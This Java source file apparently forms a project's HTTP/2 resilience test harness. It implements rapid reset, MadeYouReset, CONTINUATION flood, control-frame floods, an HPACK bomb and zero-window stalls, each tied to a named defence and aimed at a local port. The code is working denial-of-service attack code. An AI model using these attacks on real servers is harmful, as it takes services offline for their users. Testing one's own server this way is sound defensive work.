package io.sluice.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;

/** Abuse of HTTP/2 (RFC 9113 section 10.5), in clear text with prior knowledge. */
public final class Http2Attacks {
    private static final String CHEAP = "/v1/channels/attack";
    private static final int ROUNDS = 20_000;
    private static final int BOMBS = 1_000;
    private static final int INITIAL_WINDOW_SIZE = 4;

    private Http2Attacks() {}

    public static final List<Attack> ALL = List.of(
            Attack.cut("rapid reset", "rapid_reset", Http2Attacks::rapidReset),
            Attack.cut("resets that we are made to send", "rapid_reset", Http2Attacks::madeYouReset),
            Attack.cut("CONTINUATION flood", "continuation_flood", port -> continuation(port, 0)),
            Attack.cut("large header block", "header_bomb", port -> continuation(port, 16_000)),
            Attack.cut("PING flood", "control_flood", port -> flood(port, Frames.PING, new byte[8])),
            Attack.cut("SETTINGS flood", "control_flood", port -> flood(port, Frames.SETTINGS, new byte[0])),
            Attack.cut("PRIORITY flood", "control_flood", Http2Attacks::priorities),
            Attack.cut("HPACK bomb", "header_bomb", Http2Attacks::hpackBomb),
            Attack.cut("windows that stay shut", "stalled_reader", Http2Attacks::zeroWindow));

    /** CVE-2023-44487: requests that are taken back at once. */
    private static void rapidReset(int port) throws IOException {
        try (var wire = new Wire(port)) {
            var frames = new Frames().preface();
            for (int i = 0; i < ROUNDS; i++) {
                frames.get(2 * i + 1, CHEAP).reset(2 * i + 1);
                if (i % 100 == 99) {
                    wire.send(frames.take());
                }
            }
            wire.awaitEnd();
        }
    }

    /** CVE-2025-8671: requests that are broken behind their head, so that the server takes them back itself. */
    private static void madeYouReset(int port) throws IOException {
        try (var wire = new Wire(port)) {
            var frames = new Frames().preface();
            for (int i = 0; i < ROUNDS; i++) {
                int stream = 2 * i + 1;
                frames.get(stream, CHEAP);
                if (i % 2 == 0) {
                    frames.window(stream, 0);
                } else {
                    frames.window(stream, Integer.MAX_VALUE);
                }
                if (i % 100 == 99) {
                    wire.send(frames.take());
                }
            }
            wire.awaitEnd();
        }
    }

    /** A header block that never ends, in pieces of {@code size} bytes (CVE-2024-27316). */
    private static void continuation(int port, int size) throws IOException {
        try (var wire = new Wire(port)) {
            var piece = new ByteArrayOutputStream();
            while (piece.size() < size) {
                Frames.field(piece, "x" + piece.size(), "y".repeat(100));
            }
            wire.send(new Frames()
                    .preface()
                    .frame(Frames.HEADERS, Frames.END_STREAM, 1, Frames.request("GET", CHEAP))
                    .take());
            for (int i = 0; i < ROUNDS; i++) {
                wire.send(new Frames()
                        .frame(Frames.CONTINUATION, 0, 1, piece.toByteArray())
                        .take());
            }
            wire.awaitEnd();
        }
    }

    private static void flood(int port, int type, byte[] payload) throws IOException {
        try (var wire = new Wire(port)) {
            var frames = new Frames().preface();
            for (int i = 0; i < ROUNDS; i++) {
                frames.frame(type, 0, 0, payload);
                if (i % 100 == 99) {
                    wire.send(frames.take());
                }
            }
            wire.awaitEnd();
        }
    }

    private static void priorities(int port) throws IOException {
        try (var wire = new Wire(port)) {
            var frames = new Frames().preface();
            for (int i = 0; i < ROUNDS; i++) {
                frames.frame(Frames.PRIORITY, 0, 2 * i + 1, new byte[] {0, 0, 0, 0, 16});
                if (i % 100 == 99) {
                    wire.send(frames.take());
                }
            }
            wire.awaitEnd();
        }
    }

    /** One large field in the dynamic table, referred to thousands of times, again and again: small blocks that inflate to megabytes. */
    private static void hpackBomb(int port) throws IOException {
        try (var wire = new Wire(port)) {
            var block = new ByteArrayOutputStream();
            block.writeBytes(Frames.request("GET", CHEAP));
            block.write(0x40); // literal with incremental indexing, new name
            block.write(1);
            block.write('a');
            block.write(0x7f); // a length of 127 and more: 3,873
            block.write(0xa2);
            block.write(0x1d);
            block.writeBytes("b".repeat(127 + 0x22 + (0x1d << 7)).getBytes(java.nio.charset.StandardCharsets.US_ASCII));
            var bomb = new byte[12_000];
            Arrays.fill(bomb, (byte) 0xbe); // the newest entry of the dynamic table
            block.writeBytes(bomb);
            wire.send(new Frames().preface().take());
            for (int i = 0; i < BOMBS; i++) {
                wire.send(new Frames()
                        .frame(Frames.HEADERS, Frames.END_STREAM | Frames.END_HEADERS, 2 * i + 1, block.toByteArray())
                        .take());
                block.reset();
                block.writeBytes(Frames.request("GET", CHEAP));
                block.writeBytes(bomb);
            }
            wire.awaitEnd();
        }
    }

    /** Large responses that the client never opens its window for. */
    private static void zeroWindow(int port) throws IOException {
        try (var wire = new Wire(port)) {
            var frames = new Frames().preface(INITIAL_WINDOW_SIZE, 0);
            for (int i = 0; i < 50; i++) {
                frames.get(2 * i + 1, "/v1/channels/large/messages?limit=1000");
            }
            wire.send(frames.take());
            wire.hold(3_000);
        }
    }
}
